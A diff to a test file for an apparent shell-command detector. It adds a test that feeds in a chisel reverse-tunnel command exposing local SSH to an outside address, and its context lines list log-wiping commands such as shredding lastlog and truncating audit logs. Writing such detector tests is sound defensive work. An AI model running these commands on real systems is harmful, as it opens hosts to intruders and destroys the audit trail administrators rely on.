@@ -147,6 +147,9 @@ describe('commands', () => {
 		expect(await typed(command)).toEqual(['medium eve: a command cleared the shell history, or switched it off']);
 	});
 
+	test('a tunnel somebody started lets others in', async () => {
+		expect(await typed('./chisel client 203.0.113.9:443 R:2222:localhost:22')).toEqual(['medium eve: a command lets the far side of a tunnel reach back in']);
+	});
 	test.each(['rm -f /var/log/wtmp', 'echo > /var/log/auth.log', 'cat /dev/null > /var/log/secure', 'shred -u /var/log/lastlog', 'rm -rf /var/log', 'rm -rf /var/log/*', 'truncate -s 0 /var/log/audit/audit.log'])('%s', async command => {
 		expect(await typed(command)).toEqual(['medium eve: a command removed or emptied logs that tell who was on the machine']);
 	});
